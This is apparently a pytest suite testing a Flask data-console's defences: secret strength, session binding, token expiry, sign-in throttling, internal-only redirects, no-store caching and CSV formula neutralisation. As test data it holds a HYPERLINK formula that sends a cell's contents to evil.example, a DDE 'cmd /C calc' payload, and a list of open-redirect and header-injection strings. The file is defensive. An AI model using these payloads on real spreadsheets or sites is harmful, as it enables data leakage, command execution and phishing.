"""Console security (issue 11, points 3-7), through the real Flask app on a seeded dataset:
secrets, session binding and sign-out, token expiry, the Secure cookie, sign-in throttling,
internal-only redirects and CSV formula injection."""
from __future__ import annotations

import csv
import io
import logging
import os
import re
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pandas as pd
import pytest

import settings as config_mod
from settings.buckets import ClientBuckets
from settings.secret_policy import WeakSecret
from registry import connect, ops, session_scope
from registry.models import Token, utcnow
from tests import console_csv
from tests.console_auth import token as new_token
from tests.console_data import build
from warehouse import export
from warehouse.console import create_app
from warehouse.console.charts import VERSION as PLOTLY
from warehouse.csvsafe import safe_cell

ROOT = Path(__file__).resolve().parents[1]
STRONG = "9b1f3c7e2a5d4086b7c1e9f2a3d5b8c6"  # 32 random-looking bytes
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"clic")'


@pytest.fixture(scope="module")
def seeded(tmp_path_factory):
    settings, tokens = build(tmp_path_factory.mktemp("console-sec"))
    with session_scope(connect(settings.database_url)) as s:  # an entity name a spreadsheet would run
        ops.update_entity(s, "c_h501", name=EVIL, actor="test")
    return settings, tokens


@pytest.fixture(scope="module")
def app(seeded):
    return create_app(seeded[0].with_(console_secret=STRONG, console_signin_limit="10000/minute"))


def _csrf(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


def _login(client, secret: str, next_: str | None = None, remote: str = "127.0.0.1"):
    page = client.get("/login").get_data(as_text=True)
    url = "/login" if next_ is None else "/login?" + next_
    return client.post(url, data={"token": secret, "csrf_token": _csrf(page)}, environ_base={"REMOTE_ADDR": remote})


def _token_id(settings, secret: str) -> int:
    with session_scope(connect(settings.database_url)) as s:
        return s.query(Token).filter_by(prefix=secret.split("_")[1]).one().id


# --- 3. secrets ------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["change-me", "CHANGE-ME", "changeme", "secret", "x" * 31,
                                   "change-me-please-to-a-long-random-value", "s" * 40,
                                   "your_secret_here_0123456789abcdef"])
def test_a_short_or_placeholder_secret_refuses_to_start(seeded, value):
    with pytest.raises(WeakSecret, match="ASCOLTO_CONSOLE_SECRET"):
        create_app(seeded[0].with_(console_secret=value))
    from collector.app import create_app as collector_app
    with pytest.raises(WeakSecret, match="ASCOLTO_FORM_SECRET"):
        collector_app(seeded[0].with_(form_secret=value))


def test_a_strong_secret_is_used_and_an_unset_one_is_random_and_kept(seeded):
    assert create_app(seeded[0].with_(console_secret=STRONG)).config["SECRET_KEY"] == STRONG
    kept = create_app(seeded[0]).config["SECRET_KEY"]
    assert len(kept) == 64 and create_app(seeded[0]).config["SECRET_KEY"] == kept


@pytest.mark.parametrize("command, variable", [("console", "ASCOLTO_CONSOLE_SECRET"),
                                               ("collector", "ASCOLTO_FORM_SECRET")])
def test_the_servers_exit_non_zero_with_a_clear_message_on_a_placeholder(tmp_path, command, variable):
    env = dict(os.environ, PYTHONPATH=str(ROOT), ASCOLTO_DATA_DIR=str(tmp_path), **{variable: "change-me"})
    done = subprocess.run([sys.executable, "-m", "ascolto.cli", command], env=env, capture_output=True, text=True,
                          timeout=60)
    assert done.returncode == 2
    assert f"{variable} is shorter than 32 bytes: refusing to start" in done.stderr


def test_a_forged_session_naming_a_token_id_gets_nothing(app, seeded):
    """Whoever knows the cookie secret can sign any cookie; without the token's binding it is useless."""
    admin_id = _token_id(seeded[0], seeded[1]["admin"])
    signer = app.session_interface.get_signing_serializer(app)
    for forged in ({"tid": admin_id}, {"tid": admin_id, "bind": "0" * 64}):
        c = app.test_client()
        c.set_cookie("ascolto_console", signer.dumps(forged))
        assert c.get("/admin/tokens").status_code == 303  # to the sign-in form: not signed in
        assert c.get("/api/v1/meta").status_code == 401


# --- 5. sign-out, expiry, Secure cookie ---------------------------------------------------------------

def test_a_saved_cookie_gets_401_after_sign_out(app, seeded):
    secret = new_token(seeded[0], "monitoring", "sign-out test")
    c = app.test_client()
    assert _login(c, secret).status_code == 303
    saved = c.get_cookie("ascolto_console").value
    other = app.test_client()  # the same token signed in elsewhere
    assert _login(other, secret).status_code == 303 and other.get("/").status_code == 200
    html = c.get("/").get_data(as_text=True)
    assert c.post("/logout", data={"csrf_token": _csrf(html)}).status_code == 303
    replay = app.test_client()
    replay.set_cookie("ascolto_console", saved)
    assert replay.get("/").status_code == 303  # to the sign-in form: not signed in
    assert replay.get("/api/v1/meta").status_code == 401
    assert other.get("/").status_code == 303  # a sign-out ends every session of the token (to sign-in)
    assert _login(app.test_client(), secret).status_code == 303  # the token itself still works


def test_an_expired_token_stops_working_everywhere(app, seeded):
    with session_scope(connect(seeded[0].database_url)) as s:
        from registry.tokens import create_token
        tok, secret = create_token(s, role="admin", label="expiring", actor="test", expires="1h")
        tid = tok.id
    c = app.test_client()
    assert _login(c, secret).status_code == 303 and c.get("/").status_code == 200
    page = c.get("/admin/tokens").get_data(as_text=True)
    row = re.search(rf'<tr data-token="{secret.split("_")[1]}">.*?</tr>', page, re.S).group(0)
    assert re.search(r'data-expires="\d{4}-\d\d-\d\dT', row)
    with session_scope(connect(seeded[0].database_url)) as s:  # time passes
        s.get(Token, tid).expires_at = utcnow() - timedelta(seconds=1)
    assert c.get("/").status_code == 303  # to the sign-in form
    assert app.test_client().get("/api/v1/meta", headers={"Authorization": f"Bearer {secret}"}).status_code == 401
    assert _login(app.test_client(), secret).status_code == 401


def test_a_backend_token_is_the_collectors_only_and_never_signs_in_to_the_console(app, seeded):
    with session_scope(connect(seeded[0].database_url)) as s:
        from registry.tokens import create_token
        secret = create_token(s, role="backend", label="INPS - inoltro", actor="test", entity="inps")[1]
    refused = app.test_client().get("/api/v1/meta", headers={"Authorization": f"Bearer {secret}"})
    assert refused.status_code == 401
    assert "backend token posts to the collector only" in refused.get_json()["fields"]["Authorization"][0]
    c = app.test_client()
    assert _login(c, secret).status_code == 401 and c.get("/").status_code == 303  # to the sign-in form


@pytest.mark.parametrize("lang, said", [
    ("it", "Questo è un token backend: serve solo a inviare risposte al collettore, non ad accedere alla console."),
    ("en", "This is a backend token: it posts answers to the collector only and does not open the console.")])
def test_the_sign_in_form_says_a_backend_token_posts_to_the_collector_only(app, seeded, lang, said):
    """A valid backend token given to the sign-in form read "Token non valido, scaduto o revocato." — as if it
    were mistyped or withdrawn — where the API's 401 explains it: backend tokens post to the collector only."""
    import html as markup

    with session_scope(connect(seeded[0].database_url)) as s:
        from registry.tokens import create_token
        secret = create_token(s, role="backend", label="INPS - inoltro", actor="test", entity="inps")[1]
    c = app.test_client()
    if lang == "en":
        with c.session_transaction() as sess:
            sess["lang"] = "en"
    r = _login(c, secret)
    page = markup.unescape(r.get_data(as_text=True))
    assert r.status_code == 401 and c.get("/").status_code == 303  # still no session
    error = re.search(r'<div class="alert alert-error" role="alert" id="login-error"[^>]*>(.*?)</div>', page, re.S)
    assert error and error.group(1).startswith(said), page[-2000:]
    assert "monitoring" in error.group(1) and ("revocato" not in error.group(1) and "revoked" not in error.group(1))
    # a mistyped secret of the same shape still reads as before: nothing tells which prefixes exist
    wrong = markup.unescape(_login(app.test_client(), secret[:-4] + "AAAA").get_data(as_text=True))
    assert "Token non valido, scaduto o revocato." in wrong and "backend" not in wrong.split('id="login-error"')[1][:300]


def test_admins_create_expiring_tokens_and_see_the_expiry(app, seeded):
    c = app.test_client()
    _login(c, seeded[1]["admin"])
    html = c.get("/admin/tokens").get_data(as_text=True)
    r = c.post("/admin/tokens", data={"role": "monitoring", "label": "due to expire", "expires": "2099-01-31",
                                      "csrf_token": _csrf(html)})
    page = r.get_data(as_text=True)
    assert 'data-expires="2099-02-01T00:00:00+00:00"' in page and ">mai<" in page
    r = c.post("/admin/tokens", data={"role": "monitoring", "label": "bad expiry", "expires": "yesterday",
                                      "csrf_token": _csrf(page)}, follow_redirects=True)
    assert "bad expiry" not in r.get_data(as_text=True).split("<tbody>")[1]


def test_the_session_cookie_is_secure_by_default_outside_the_local_stack():
    assert config_mod.load({}).console_secure_cookie is True
    assert config_mod.load({"ASCOLTO_CONSOLE_SECURE_COOKIE": "0"}).console_secure_cookie is False
    assert config_mod.Settings().console_secure_cookie is True
    up = (ROOT / "deploy" / "up.py").read_text()
    assert 'env.setdefault("ASCOLTO_CONSOLE_SECURE_COOKIE", "0")' in up  # only `ascolto up` (http://127.0.0.1)


# --- 6. throttling --------------------------------------------------------------------------------

def test_failed_sign_ins_are_throttled_per_client_with_retry_after_and_logged(seeded, caplog):
    app = create_app(seeded[0].with_(console_secret=STRONG, console_signin_limit="3/minute"))
    wrong = "asc_" + seeded[1]["monitoring"].split("_")[1] + "_" + "A" * 43  # a real prefix, a wrong secret
    caplog.set_level(logging.WARNING, logger="ascolto.console")
    c = app.test_client()
    statuses = [_login(c, f"asc_bad{i}", remote="203.0.113.5").status_code for i in range(3)]
    assert statuses == [401, 401, 401]
    r = _login(c, seeded[1]["statistician"], remote="203.0.113.5")  # even a good token: the client must wait
    assert r.status_code == 429 and int(r.headers["Retry-After"]) > 0
    assert "Troppi tentativi" in r.get_data(as_text=True)
    assert _login(app.test_client(), seeded[1]["statistician"], remote="198.51.100.1").status_code == 303
    r = app.test_client().get("/api/v1/meta", headers={"Authorization": f"Bearer {wrong}"},
                              environ_base={"REMOTE_ADDR": "203.0.113.5"})
    assert r.status_code == 429 and r.headers["Retry-After"] and set(r.get_json()) == {"error", "message", "fields"}
    log = caplog.text
    bucket = ClientBuckets(seeded[0]).bucket("203.0.113.5")
    assert f"console sign-in failed: token prefix -, client bucket {bucket}, via form" in log
    assert f"client bucket {bucket}, retry in" in log  # the throttled line
    assert "203.0.113.5" not in log  # no IP address stored, logs included: the keyed bucket follows the client
    assert "asc_bad" not in log and "A" * 43 not in log


def test_failed_sign_ins_are_throttled_per_token_prefix_across_clients(seeded, caplog):
    app = create_app(seeded[0].with_(console_secret=STRONG, console_signin_limit="3/minute"))
    prefix = seeded[1]["admin"].split("_")[1]
    wrong = f"asc_{prefix}_" + "B" * 43
    caplog.set_level(logging.WARNING, logger="ascolto.console")
    statuses = [app.test_client().get("/api/v1/meta", headers={"Authorization": f"Bearer {wrong}"},
                                      environ_base={"REMOTE_ADDR": f"198.51.100.{i}"}).status_code for i in range(5)]
    assert statuses == [401, 401, 401, 429, 429]
    assert f"token prefix {prefix}" in caplog.text and "B" * 43 not in caplog.text
    assert _login(app.test_client(), seeded[1]["monitoring"], remote="198.51.100.9").status_code == 303


def test_behind_a_proxy_each_client_has_its_own_sign_in_bucket_and_a_spoofed_header_gets_none(seeded):
    """Behind the internal ingress every request comes from the proxy's address: with
    ``ASCOLTO_PROXY_COUNT=1`` the throttle counts the client X-Forwarded-For names, so one attacker's
    failures do not lock every member of staff out; without it the header is not believed (a forged
    X-Forwarded-For per attempt gives no fresh bucket)."""
    proxy, attacker, colleague = "10.0.0.2", "203.0.113.5", "198.51.100.1"
    behind = create_app(seeded[0].with_(console_secret=STRONG, console_signin_limit="3/minute", proxy_count=1))
    for i in range(3):
        c = behind.test_client()
        c.environ_base.update(REMOTE_ADDR=proxy, HTTP_X_FORWARDED_FOR=attacker)
        assert _login(c, f"asc_bad{i}", remote=proxy).status_code == 401
    c = behind.test_client()
    c.environ_base.update(HTTP_X_FORWARDED_FOR=attacker)
    assert _login(c, seeded[1]["statistician"], remote=proxy).status_code == 429  # the attacker waits
    c = behind.test_client()
    c.environ_base.update(HTTP_X_FORWARDED_FOR=colleague)
    assert _login(c, seeded[1]["statistician"], remote=proxy).status_code == 303  # the colleague does not
    direct = create_app(seeded[0].with_(console_secret=STRONG, console_signin_limit="3/minute"))
    codes = []
    for i in range(4):
        c = direct.test_client()
        c.environ_base.update(HTTP_X_FORWARDED_FOR=f"192.0.2.{i}")
        codes.append(_login(c, f"asc_bad{i}", remote=attacker).status_code)
    assert codes == [401, 401, 401, 429]


def test_failures_for_a_prefix_never_lock_its_owner_out(seeded):
    """A token's prefix is no secret (the audit log, the entity's tokens page): a few wrong guesses
    for the admin's prefix, from anywhere, refused the admin's own right secret too — sign-in and
    API — for the whole window. Wrong secrets for that prefix still wait; the right one passes."""
    app = create_app(seeded[0].with_(console_secret=STRONG, console_signin_limit="3/minute"))
    good = seeded[1]["admin"]
    wrong = f"asc_{good.split('_')[1]}_" + "C" * 43
    for i in range(4):
        app.test_client().get("/api/v1/meta", headers={"Authorization": f"Bearer {wrong}"},
                              environ_base={"REMOTE_ADDR": f"203.0.113.{i}"})
    assert app.test_client().get("/api/v1/meta", headers={"Authorization": f"Bearer {wrong}"},
                                 environ_base={"REMOTE_ADDR": "203.0.113.99"}).status_code == 429
    assert app.test_client().get("/api/v1/meta", headers={"Authorization": f"Bearer {good}"},
                                 environ_base={"REMOTE_ADDR": "198.51.100.7"}).status_code == 200
    assert _login(app.test_client(), good, remote="198.51.100.8").status_code == 303


# --- 4. redirects -----------------------------------------------------------------------------------

HOSTILE_NEXT = ["/\t/evil.example", "/%09/evil.example", "/\r\n/evil.example", "%0D%0ALocation:%20http://evil.example",
                "/%0D%0ASet-Cookie:%20x=1", "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example",
                "https://evil.example/", "http:/evil.example", "javascript:alert(1)", " /regions", "/regions\x00",
                "/\u2028/evil.example", "/ /evil.example", "evil.example"]


@pytest.mark.parametrize("nxt", HOSTILE_NEXT)
def test_redirects_go_only_to_internal_paths(app, seeded, nxt):
    from urllib.parse import quote, unquote

    for raw in (nxt, unquote(nxt)):
        query = "next=" + quote(raw, safe="")
        r = app.test_client().get("/lang/en?" + query)
        if "\x00" in raw:  # a NUL anywhere is refused before any view (warehouse.console.nul_guard): no redirect
            assert r.status_code == 400 and "next" in r.get_data(as_text=True)
            continue
        assert r.status_code == 303 and r.headers["Location"] == "/", (raw, r.headers.get("Location"))
        r = _login(app.test_client(), seeded[1]["monitoring"], query)
        assert r.status_code == 303 and r.headers["Location"] == "/", (raw, r.headers.get("Location"))


def test_internal_redirects_keep_their_path_and_query(app, seeded):
    assert app.test_client().get("/lang/en?next=%2Fregions%3Fperiod%3D2026-10").headers["Location"] == \
        "/regions?period=2026-10"
    assert _login(app.test_client(), seeded[1]["monitoring"], "next=/quality").headers["Location"] == "/quality"



@pytest.mark.parametrize("fmt", ["../../admin/tokens", "..%2F..%2Fadmin", "csv2", "//evil.example"])
def test_the_exports_forms_format_is_checked_before_it_is_put_in_the_redirect(app, seeded, fmt):
    """``/exports/download?format=`` went into the redirect's path as sent (``/api/v1/export/../../admin/tokens``,
    which a browser resolves to another page): an unknown format is a 400 page naming it, as the form's other
    fields are; the known ones still redirect to the API."""
    h = {"Authorization": f"Bearer {seeded[1]['statistician']}"}
    r = app.test_client().get(f"/exports/download?format={fmt}&freq=M", headers=h)
    assert r.status_code == 400 and "Location" not in r.headers
    assert "format" in r.get_data(as_text=True)
    ok = app.test_client().get("/exports/download?format=sdmx-csv&freq=M", headers=h)
    assert ok.status_code == 303 and ok.headers["Location"].startswith("/api/v1/export/sdmx-csv?")

# --- 6b. What a signed-in user downloads is never kept by a cache -----------------------------------

def test_every_download_of_a_signed_in_user_is_no_store_and_only_static_files_are_cached(app, seeded):
    """The microdata package (restricted: statisticians only, no redistribution) came with
    ``Cache-Control: no-cache`` — a browser keeps it on disk — and the chart and workspace CSVs with
    none at all; every answer to a signed-in user (session or bearer) is ``no-store`` now."""
    c = app.test_client()
    _login(c, seeded[1]["statistician"])
    urls = ["/exports/datapackage.zip", "/csv/overview/volumes",
            "/csv/service-type/anagrafe.certificati/funnel", "/workspace/c_h501", "/api/v1/meta"]
    charts = c.get("/api/v1/workspace/c_h501").get_json()["charts"]
    urls.append(f"/workspace/c_h501/csv/{charts[0]['id']}")
    for url in urls:
        r = c.get(url)
        assert r.status_code == 200, (url, r.status_code)
        assert r.headers.get("Cache-Control") == "no-store", (url, r.headers.get("Cache-Control"))
    bearer = app.test_client().get("/csv/overview/volumes",
                                   headers={"Authorization": f"Bearer {seeded[1]['monitoring']}"})
    assert bearer.status_code == 200 and bearer.headers["Cache-Control"] == "no-store"
    lib = c.get(f"/vendor/plotly-{PLOTLY}.min.js")
    assert lib.status_code == 200 and "immutable" in lib.headers["Cache-Control"]  # the same bytes for everyone
    assert "no-store" not in (c.get("/static/charts.js").headers.get("Cache-Control") or "")


# --- 7. CSV formula injection --------------------------------------------------------------------

def test_chart_csv_neutralizes_formula_names(app, seeded):
    c = app.test_client()
    _login(c, seeded[1]["monitoring"])
    r = c.get("/csv/service-type/anagrafe.certificati/funnel")
    assert r.status_code == 200
    cells = [cell for row in console_csv.rows(r) for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert not [x for x in cells if x[:1] in ("=", "+", "@", "\t", "\r")]
    assert any(re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", x) for x in cells)  # numbers stay numbers


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Roma", "Roma"), ("", ""),
    ("-0.25", "-0.25"), ("+3", "+3"), ("-1e-3", "-1e-3"), (-2.5, -2.5), (7, 7), (None, None),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_the_safe_writer_neutralizes_every_kind_of_text_cell_and_passes_the_rest():
    """The writer tests each cell inline (no call per cell): text subclasses (numpy's, from pandas) are text too."""
    import io

    import numpy as np

    from warehouse.csvsafe import csv_writer

    buf = io.StringIO()
    csv_writer(buf, lineterminator="\n").writerow([np.str_("=evil()"), "@x", "-0.25", "-x", -1.5, None, "", "Roma"])
    csv_writer(buf, decimal=",", lineterminator="\n").writerow(["-0,25", "+x"])
    assert buf.getvalue().splitlines() == ["'=evil(),'@x,-0.25,'-x,-1.5,,,Roma", "\"-0,25\",'+x"]


def test_the_export_writers_neutralize_text_cells_and_keep_numbers():
    row = {c: "x" for c in export.COLUMNS}
    row.update({export.COLUMNS[0]: "=evil()", "OBS_VALUE": -1.5, "N_RESP": 12})
    df = pd.DataFrame([row], columns=export.COLUMNS)
    for writer in (export.write_csv, export.write_sdmx_csv):
        buf = io.StringIO()
        writer(df, buf)
        cells = list(csv.reader(io.StringIO(buf.getvalue())))[1]
        assert "'=evil()" in cells and "=evil()" not in cells and "-1.5" in cells and "12" in cells


def test_every_csv_writer_of_the_warehouse_uses_the_one_helper():
    for path in (ROOT / "warehouse").rglob("*.py"):
        if path.name != "csvsafe.py":
            text = path.read_text()
            assert not re.search(r"csv\.(writer|DictWriter)\(", text), path
